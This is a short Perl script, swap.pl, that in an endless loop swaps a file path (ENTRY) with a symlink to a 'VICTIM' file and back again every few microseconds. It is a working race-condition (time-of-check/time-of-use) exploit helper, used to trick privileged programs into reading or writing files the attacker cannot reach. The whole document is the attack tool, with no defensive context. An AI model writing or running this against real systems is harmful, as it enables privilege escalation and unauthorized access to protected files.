# swap.pl ENTRY VICTIM: for ever put a link to VICTIM in the place of ENTRY and take it away again.
use strict;
use warnings;

my ($entry, $victim) = @ARGV;
my $running = 1;
$SIG{TERM} = sub { $running = 0 };
while ($running) {
    next unless rename $entry, "$entry.away";
    symlink $victim, $entry;
    select undef, undef, undef, 0.00005;
    unlink $entry;
    rename "$entry.away", $entry or next;
    select undef, undef, undef, 0.00005;
}
